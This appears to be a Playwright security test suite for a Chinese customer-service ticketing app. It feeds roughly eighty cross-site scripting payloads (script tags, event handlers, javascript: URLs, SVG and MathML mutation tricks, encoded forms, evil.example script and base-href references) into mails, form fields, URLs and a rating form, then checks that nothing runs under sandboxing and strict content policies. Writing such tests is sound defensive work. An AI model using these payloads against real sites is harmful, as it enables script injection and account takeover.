// Hostile text, put wherever somebody outside or inside can put it, and every page that shows it: no script of it runs,
// none of its markup survives, and a mail's own HTML stays in a frame that may run nothing, in the ledger and in tickets.
import { expect, letter, mailOut, signIn, start, test } from './kefu.mjs';

const COMPANY = '试探公司';
const ADMIN = 'admin@xss.example';

// Each calls a function that the pages here carry and that tells on it.
const HOSTILE = [
  `<script>xss()</script>`,
  `<ScRiPt>xss()</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>xss()</scr</script>ipt>`,
  `"><script>xss()</script>`,
  `'><script>xss()</script>`,
  `</title><script>xss()</script>`,
  `</textarea><script>xss()</script>`,
  `</style><script>xss()</script>`,
  `--><script>xss()</script>`,
  `]]><script>xss()</script>`,
  `<img src=x onerror=xss()>`,
  `<img src=x onerror="xss()"//`,
  `<img/src='x'/onerror='xss()'>`,
  `<IMG """><SCRIPT>xss()</SCRIPT>">`,
  `<img src=x:x onerror=&#x78;ss()>`,
  `<img src="javascript:xss()">`,
  `<img srcset="x" onload=xss() onerror=xss()>`,
  `<svg onload=xss()>`,
  `<svg/onload=xss()>`,
  `<svg><script>xss()</script></svg>`,
  `<svg><script href="data:text/javascript,xss()"/></svg>`,
  `<svg><animate onbegin=xss() attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='xss()'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.xss()</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=xss()></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">`,
  `<math><mi//xlink:href="data:x,<script>xss()</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>`,
  `<noscript><p title="</noscript><img src=x onerror=xss()>">`,
  `<template><img src=x onerror=xss()></template>`,
  `<select><template><img src=x onerror=xss()></template></select>`,
  `<table><td background="javascript:xss()"><a href="javascript:xss()">x</a></td></table>`,
  `<a href="javascript:xss()">x</a>`,
  `<a href="JaVaScRiPt:xss()">x</a>`,
  `<a href="java&#10;script:xss()">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;script:xss()">x</a>`,
  `<a href=" &#14; javascript:xss()">x</a>`,
  `<a href="data:text/html,<script>xss()</script>">x</a>`,
  `<a href="vbscript:xss()">x</a>`,
  `<a href="x" onclick=xss() onfocus=xss() autofocus tabindex=0>x</a>`,
  `<iframe src="javascript:xss()"></iframe>`,
  `<iframe srcdoc="<script>parent.xss()</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.xss()</script>"></iframe>`,
  `<object data="javascript:xss()"></object>`,
  `<object data="data:text/html,<script>xss()</script>"></object>`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InhzcygpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=">`,
  `<link rel=stylesheet href="data:text/css,body{background:red}">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="background:url(javascript:xss())">x</div>`,
  `<div style="width:expression(xss())">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999">x</div>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:xss()">`,
  `<form action="javascript:xss()"><button>x</button></form>`,
  `<form><button formaction="javascript:xss()">x</button></form>`,
  `<input autofocus onfocus=xss()>`,
  `<details open ontoggle=xss()><summary>x</summary></details>`,
  `<video><source onerror=xss()></video>`,
  `<audio src=x onerror=xss()>`,
  `<marquee onstart=xss()>x</marquee>`,
  `<body onload=xss() onpageshow=xss()>`,
  `<p onmouseover=xss() onpointerenter=xss() onanimationstart=xss() style="animation:x 1s">x</p>`,
  `<x contenteditable onbeforeinput=xss() onblur=xss()>x</x>`,
  `<button popovertarget=x>x</button><div id=x popover onbeforetoggle=xss()>x</div>`,
  `<leptos-island data-component="Palette_1" data-props="{}"><script>xss()</script></leptos-island>`,
  `{{constructor.constructor('xss()')()}}`,
  '${xss()}`${xss()}`',
  `+ADw-script+AD4-xss()+ADw-/script+AD4-`,
  `%3Cscript%3Exss()%3C/script%3E`,
  `&lt;script&gt;xss()&lt;/script&gt;`,
  `\u202E<script>xss()</script>\u0000`,
  `javascript:xss()`,
  `'-xss()-'`,
  `";xss();//`,
  `</script><script>xss()</script>`,
];

test.describe.configure({ mode: 'serial' });

let kefu;
let state;
/** What the hostile text achieved. */
let achieved;

/** A page that tells when anything hostile runs, or would have run without the policy. */
async function watched(context) {
  await context.exposeFunction('toldOn', (what) => achieved.push(what));
  await context.addInitScript(() => {
    globalThis.xss = () => globalThis.toldOn(`ran in ${location.href}`);
    document.addEventListener('securitypolicyviolation', (event) => {
      globalThis.toldOn(`${event.effectiveDirective} stopped ${event.blockedURI} ${event.sample} in ${location.href}`);
    });
  });
  const page = await context.newPage();
  page.on('dialog', (dialog) => (achieved.push(`${dialog.type()} in ${page.url()}`), dialog.dismiss()));
  page.on('console', (message) => {
    // Playwright's own watching is what a mail's frame does not run; `dangerous` looks at the mail itself.
    if (/Blocked script execution/.test(message.text()) && !/\/body[^']*' because/.test(message.text())) achieved.push(message.text());
    if (/Content Security Policy/.test(message.text())) achieved.push(`${page.url()}: ${message.text()}`);
  });
  page.on('request', (request) => {
    if (!request.url().startsWith(kefu.url) && !/^(data|blob|about):/.test(request.url())) achieved.push(`${page.url()} asked for ${request.url()}`);
  });
  page.on('pageerror', (error) => achieved.push(`${page.url()}: ${error}`));
  return page;
}

/** Markup in a document that could run something, send something or cover something. */
function dangerous(html) {
  const found = [];
  const document_ = html === undefined ? document : new DOMParser().parseFromString(html, 'text/html');
  for (const element of document_.querySelectorAll('*')) {
    const name = element.localName;
    if (name === 'script' && !element.hasAttribute('nonce')) found.push('script');
    if (['object', 'embed', 'applet', 'foreignobject', 'animate', 'marquee'].includes(name)) found.push(name);
    if (name === 'base' && element.hasAttribute('href')) found.push(name);
    if (name === 'meta' && element.hasAttribute('http-equiv')) found.push('meta refresh');
    if (name === 'iframe' && (element.hasAttribute('srcdoc') || !element.hasAttribute('sandbox')) && element.getAttribute('name') !== 'preview') found.push('iframe');
    for (const { name: attribute, value } of element.attributes) {
      const address = value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      if (attribute.startsWith('on')) found.push(`${name} ${attribute}`);
      if (/^(href|src|action|formaction|xlink:href|data|background|poster)$/.test(attribute) && /^(javascript|vbscript|data:text|data:image\/svg)/.test(address)) found.push(`${name} ${attribute}=${value}`);
    }
  }
  return found;
}

/** Opens a page and looks at it. */
async function look(page, address) {
  const answer = await page.goto(address);
  expect(answer.status(), address).toBeLessThan(500);
  for (const found of await page.evaluate(dangerous)) achieved.push(`${address}: ${found}`);
  return answer.status();
}

/** Looks at some of the pages, and at the markup of the others. */
async function lookAtAll({ context, page, bench }, addresses) {
  for (const [at, address] of [...addresses].entries()) {
    if (at % 3 === 0) await look(page, address);
    else for (const found of await bench.evaluate(dangerous, await (await context.request.get(address)).text())) achieved.push(`${address}: ${found}`);
  }
}

test.beforeAll(async ({ browser }) => {
  test.setTimeout(120_000);
  kefu = await start();
  kefu.company(COMPANY, ADMIN);
  const context = await browser.newContext({ baseURL: kefu.url, locale: 'zh-CN' });
  const page = await context.newPage();
  await signIn(page, ADMIN);
  state = await context.storageState();
  await context.close();
});
test.afterAll(async () => {
  await kefu?.stop();
});
test.beforeEach(() => {
  achieved = [];
});
test.afterEach(() => {
  expect(achieved).toEqual([]);
});

/** A browser that is signed in, and how it posts a form. */
async function signedIn(browser) {
  const context = await browser.newContext({ baseURL: kefu.url, locale: 'zh-CN', storageState: state });
  const page = await watched(context);
  // Where documents are taken apart, under no policy that would act on them.
  const bench = await context.newPage();
  const post = async (path, fields, multipart) => {
    const named = Object.fromEntries(Object.entries(fields).map(([name, value]) => [`input[${name}]`, value]));
    const headers = { origin: kefu.url, referer: `${kefu.url}/`, accept: 'text/html' };
    const answer = await context.request.post(`/do/${path}`, { headers, maxRedirects: 0, [multipart ? 'multipart' : 'form']: named });
    expect(answer.status(), path).toBe(303);
    return answer.headers().location;
  };
  return { context, page, bench, post };
}

test('there are enough of them', () => {
  expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
  expect(new Set(HOSTILE).size).toBe(HOSTILE.length);
});

test('in mails: sender, subject, text, HTML, names of files', async ({ browser }) => {
  test.setTimeout(180_000);
  const told = kefu.mail(
    COMPANY,
    'help@xss.example',
    ...HOSTILE.map((text, at) =>
      letter({ from: `x${at}@mail.example`, name: text, subject: text, text, html: at % 2 ? `<p>${at}</p>${text}<p>end</p>` : `<table><tr><td>${at}</td></tr></table>${text}<p>end</p>`, files: { [`${text.replaceAll(/[/\\]/g, '∕')}.html`]: text, 'x.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="xss()"/>` } }),
    ),
  );
  expect(told.filter((one) => one.verdict !== 'new_ticket')).toEqual([]);
  const { context, page, bench } = await signedIn(browser);
  for (const address of ['/tickets?view=all', '/mail', '/customers', '/']) await look(page, address);

  const mails = new Set();
  for (let next = '/mail'; next; ) {
    const html = await (await context.request.get(next)).text();
    for (const [, href] of html.matchAll(/href="(\/mail\/[0-9a-f-]{36})/g)) mails.add(href);
    next = html.match(/href="(\/mail\?[^"]*at=[^"]+)"[^>]*rel="next"|rel="next"[^>]*href="(\/mail\?[^"]*at=[^"]+)"/)?.slice(1).find(Boolean)?.replaceAll('&amp;', '&');
  }
  const tickets = new Set();
  let at = 0;
  for (const href of mails) {
    const body = await context.request.get(`${href}/body`);
    const policy = body.headers()['content-security-policy'];
    expect(policy, 'a mail runs nothing').toMatch(/sandbox(?![^;]*allow-scripts)/);
    for (const found of await bench.evaluate(dangerous, await body.text())) achieved.push(`${href}/body: ${found}`);
    const entry = await (await context.request.get(href)).text();
    tickets.add(entry.match(/href="(\/tickets\/[0-9a-f-]{36})/)[1]);
    // In its frame, for some of them: what the frame would run is reported.
    at += 1;
    if (at % 6 === 0) {
      await look(page, href);
      await expect(page.locator('iframe')).toHaveAttribute('sandbox', /^(?!.*allow-scripts)/);
    }
  }
  expect(tickets.size).toBeGreaterThanOrEqual(50);
  await lookAtAll({ context, page, bench }, tickets);
  // Every other one is a layout and stands in a frame of its ticket, with and without the pictures of other sites.
  const frames = new Set();
  for (const href of tickets) {
    const html = await (await context.request.get(href)).text();
    for (const [tag, src] of html.matchAll(/<iframe[^>]* src="([^"]+)"[^>]*>/g)) {
      expect(tag).toMatch(/ sandbox="(?![^"]*allow-scripts)/);
      frames.add(src.replaceAll('&amp;', '&'));
    }
  }
  expect(frames.size).toBeGreaterThanOrEqual(25);
  for (const src of frames) {
    expect(src).toMatch(/^\/tickets\/[0-9a-f-]{36}\/messages\/[0-9a-f-]{36}\/body\?part=fresh$/);
    for (const address of [src, `${src}&images=1`]) {
      const body = await context.request.get(address);
      expect(body.headers()['content-security-policy']).toMatch(/^default-src 'none'; img-src data:[^;]*; style-src 'sha256-[^;]*;.*sandbox(?![^;]*allow-(scripts|forms|top-navigation|modals))/);
      for (const found of await bench.evaluate(dangerous, await body.text())) achieved.push(`${address}: ${found}`);
    }
  }
  // A file is never shown as a page of ours.
  await page.goto([...tickets][0]);
  await expect(page.locator('a[href^="/files/"]')).not.toHaveCount(0);
  for (const href of await page.locator('a[href^="/files/"]').evaluateAll((links) => links.map((link) => link.getAttribute('href')))) {
    const file = await context.request.get(href);
    expect(file.headers()['content-disposition']).toMatch(/^attachment/);
    expect(file.headers()['content-security-policy']).toContain('sandbox');
    expect(file.headers()['x-content-type-options']).toBe('nosniff');
  }
  await context.close();
});

test('in what is typed: customers, tickets, replies, notes, groups, categories', async ({ browser }) => {
  test.setTimeout(180_000);
  const { context, page, bench, post } = await signedIn(browser);
  const pages = new Set(['/customers', '/tickets?view=all', '/settings/groups', '/settings/categories', '/settings/permissions', '/settings/agents', '/settings/audit', '/settings/customer-fields', '/tickets/views', '/tickets/new', '/notices']);
  for (const [at, text] of HOSTILE.entries()) {
    const clean = text.replaceAll('\u0000', '');
    if (at % 4 === 0) pages.add(await post('customer/create', { nickname: clean.slice(0, 50), name: clean.slice(0, 50), organisation: clean.slice(0, 80), remark: clean, emails: `y${at}@mail.example` }));
    if (at % 4 === 1) {
      const ticket = await post('ticket/create', { nickname: clean.slice(0, 50), title: clean.slice(0, 100), text: 'x', html: `<p>x ${clean}</p>` }, true);
      const id = ticket.match(/[0-9a-f-]{36}/)[0];
      await post('ticket/reply', { ticket: id, html: `<p>x ${clean}</p>`, text: '', reply_type: 'everyone', seen_seq: '999', confirmed: 'true' }, true);
      await post('ticket/reply', { ticket: id, html: '', text: clean, reply_type: 'agents_only', seen_seq: '999', confirmed: 'true' }, true);
      await post('ticket/urge', { ticket: id, reason: clean.slice(0, 100) });
      pages.add(`/tickets/${id}`);
    }
    if (at % 4 === 2) await post('group/create', { name: clean.slice(0, 40), description: clean });
    if (at % 4 === 3) {
      await post('ticket/category/save', { name: clean.replaceAll('/', '').slice(0, 20), description: clean.slice(0, 150) });
      await post('permission_group/create', { base_role: 'ticket_agent', name: clean.slice(0, 40), description: clean, ticket_scope: 'own', 'items][': 'ticket.view' });
    }
  }
  await lookAtAll({ context, page, bench }, pages);
  // What a form gives back after it was refused.
  for (const text of HOSTILE.slice(0, 8)) {
    await post('customer/create', { nickname: '', remark: text, name: text });
    await look(page, '/customers/new');
  }
  await context.close();
});

test('in the address', async ({ browser }) => {
  test.setTimeout(120_000);
  const { context, page, bench } = await signedIn(browser);
  const addresses = HOSTILE.map((text, at) => {
    const q = encodeURIComponent(text);
    return [`/search?q=${q}`, `/tickets?q=${q}`, `/customers?q=${q}`, `/tickets/new?find=${q}`, `/mail?q=${q}`, `/settings/audit?object=${q}&q=${q}`, `/reports/ticket-satisfaction?from=${q}&by=${q}`][at % 7];
  });
  await lookAtAll({ context, page, bench }, addresses);
  const visitor = await browser.newContext({ baseURL: kefu.url });
  const door = await watched(visitor);
  for (const text of ['javascript:xss()', '//evil.example', '"><script>xss()</script>']) {
    await look(door, `/sign-in?next=${encodeURIComponent(text)}`);
    await look(door, `/r/${encodeURIComponent(text)}?lang=${encodeURIComponent(text)}&score=${encodeURIComponent(text)}`);
    await look(door, `/activate/${encodeURIComponent(text)}`);
  }
  await visitor.close();
  await context.close();
});

test('in a rating, and in the mails we write ourselves', async ({ browser }) => {
  test.setTimeout(120_000);
  const { context, page, bench } = await signedIn(browser);
  await look(page, '/settings/satisfaction');
  await page.getByLabel('工单结束后自动邀请客户评价').check();
  await page.getByLabel('延迟（分钟）').fill('0');
  await page.getByRole('textbox', { name: '引导语（中文）' }).fill(`<img src=x onerror=xss()>`);
  await page.getByRole('button', { name: '保存满意度设置' }).click();
  await expect(page.locator('.toast')).toBeVisible();
  await look(page, '/settings/satisfaction');
  await look(page, '/settings/satisfaction/preview');
  const [told] = kefu.mail(COMPANY, 'help@xss.example', letter({ from: 'rater@mail.example', name: `<svg onload=xss()>`, subject: `<svg/onload=xss()>`, text: 'x', headers: 'Content-Language: zh-CN\r\n' }));
  expect(told).toMatchObject({ verdict: 'new_ticket', ticket_number: expect.any(Number) });
  await look(page, `/tickets?view=all&q=${told.ticket_number}`);
  await page.locator('.tickets tbody .c-title a').first().click();
  await page.getByRole('button', { name: '接手工单' }).click();
  await page.getByLabel('状态', { exact: true }).selectOption({ label: '已解决' });
  await page.getByRole('button', { name: '保存属性' }).click();
  const ticket = new URL(page.url()).pathname;
  const mail = await mailOut(page, 'rater@mail.example');
  const link = mail.match(/http[^"\s]*\/r\/[\w-]+/)[0];

  const visitor = await browser.newContext({ locale: 'zh-CN' });
  const door = await watched(visitor);
  await look(door, `${link}?score=1`);
  await door.getByRole('textbox').fill(HOSTILE.filter((text) => !text.includes('\u0000')).join('\n').slice(0, 500));
  await door.getByRole('button', { name: '提交评价' }).click();
  await expect(door.getByRole('heading', { level: 1 })).toContainText('谢谢');
  await look(door, link);
  await door.getByRole('link', { name: '修改评价' }).click();
  await expect(door.getByRole('radio').first()).toBeChecked();
  await visitor.close();

  await look(page, ticket);
  await expect
    .poll(async () => (await page.goto('/reports/ticket-satisfaction/rows?metric=rated'), page.locator('tbody tr').count()))
    .toBe(1);
  await look(page, '/reports/ticket-satisfaction/rows?metric=rated');
  await look(page, '/reports/ticket-satisfaction');
  await context.close();
});
